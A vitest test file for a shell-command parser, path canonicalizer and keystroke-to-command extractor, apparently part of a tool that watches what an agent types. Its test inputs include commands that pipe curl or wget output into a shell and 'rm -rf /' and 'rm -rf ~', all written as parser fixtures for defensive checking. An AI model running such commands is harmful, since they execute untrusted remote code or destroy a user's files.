// The shell reader: words, quotes, operators, redirects, substitutions and wrappers, as a shell would split them.
import { describe, expect, it } from 'vitest';
import { parseShell } from './shell';
import { canonicalPath, isWithin } from './paths';
import { factsOf } from './facts';

const brief = (text: string) =>
  parseShell(text).map((c) => ({
    program: c.program,
    args: c.args,
    sudo: c.sudo,
    pipeIndex: c.pipeIndex,
    redirects: c.redirects,
  }));

describe('parseShell', () => {
  it('splits commands on && || ; | and newlines, keeping quoted words whole', () => {
    expect(
      brief(`cd ~/Downloads && chmod +x 'my tool.sh'; ./"my tool.sh" || echo "failed; sorry"\nls | wc -l`),
    ).toEqual([
      { program: 'cd', args: ['~/Downloads'], sudo: false, pipeIndex: 0, redirects: [] },
      { program: 'chmod', args: ['+x', 'my tool.sh'], sudo: false, pipeIndex: 0, redirects: [] },
      { program: 'my tool.sh', args: [], sudo: false, pipeIndex: 0, redirects: [] },
      { program: 'echo', args: ['failed; sorry'], sudo: false, pipeIndex: 0, redirects: [] },
      { program: 'ls', args: [], sudo: false, pipeIndex: 0, redirects: [] },
      { program: 'wc', args: ['-l'], sudo: false, pipeIndex: 1, redirects: [] },
    ]);
  });

  it('takes wrappers off (sudo -u, env VAR=, timeout N) and reads redirects with their fd', () => {
    expect(brief('sudo -u root env A=1 timeout 5 bash x.sh 2>&1 >> log.txt < in')).toEqual([
      {
        program: 'bash',
        args: ['x.sh'],
        sudo: true,
        pipeIndex: 0,
        redirects: [
          { op: '>', target: '1' },
          { op: '>>', target: 'log.txt' },
          { op: '<', target: 'in' },
        ],
      },
    ]);
  });

  it('parses $( ), backticks, <( ) and bash -c strings as commands of their own, and never throws on bad quoting', () => {
    const programs = (t: string) => parseShell(t).map((c) => c.program);
    expect(programs('sh -c "$(curl -fsSL http://x/i)"')).toEqual(['sh', 'curl']);
    expect(programs("bash -c 'cd /tmp && ./x'")).toEqual(['bash', 'cd', 'x']);
    expect(programs('bash <(wget -qO- http://x) && echo `whoami`')).toEqual([
      'bash',
      'wget',
      'echo',
      'whoami',
    ]);
    expect(programs("echo 'unclosed && rm -rf /")).toEqual(['echo']);
    expect(parseShell('x'.repeat(200_000))).toEqual([]);
  });
});

describe('paths and facts', () => {
  it('puts paths in one form: ~ for the home folder, relative to the shell folder, dots folded', () => {
    expect(canonicalPath('/home/user/Downloads/../x')).toBe('~/x');
    expect(canonicalPath('$HOME/a/./b')).toBe('~/a/b');
    expect(canonicalPath('tool.sh', '~/Downloads')).toBe('~/Downloads/tool.sh');
    expect(canonicalPath('../../..', '~/a')).toBe('~');
    expect(isWithin('~/project/*', '~/project')).toBe(true);
    expect(isWithin('~/projects', '~/project')).toBe(false);
  });

  it('reads a line typed across steps as one command at the Enter, an address typed as a URL, and no command without Enter', () => {
    const at = '';
    const facts = factsOf([
      { step: 1, at, actions: [{ type: 'write', text: 'chmod +x ' }] },
      {
        step: 2,
        at,
        actions: [
          { type: 'write', text: 'tool.sh' },
          { type: 'press', keys: ['enter'] },
        ],
      },
      {
        step: 3,
        at,
        actions: [
          { type: 'hotkey', keys: ['ctrl', 'l'] },
          { type: 'write', text: '127.0.0.1:8000/x\n' },
        ],
      },
      { step: 4, at, actions: [{ type: 'write', text: 'rm -rf ~' }] },
    ]);
    expect(facts.filter((f) => f.kind !== 'typed').map((f) => [f.step, f.kind, f.text])).toEqual([
      [2, 'shell', 'chmod +x tool.sh'],
      [3, 'url', '127.0.0.1:8000/x'],
    ]);
    expect(facts.find((f) => f.kind === 'url')?.host).toBe('127.0.0.1');
  });
});
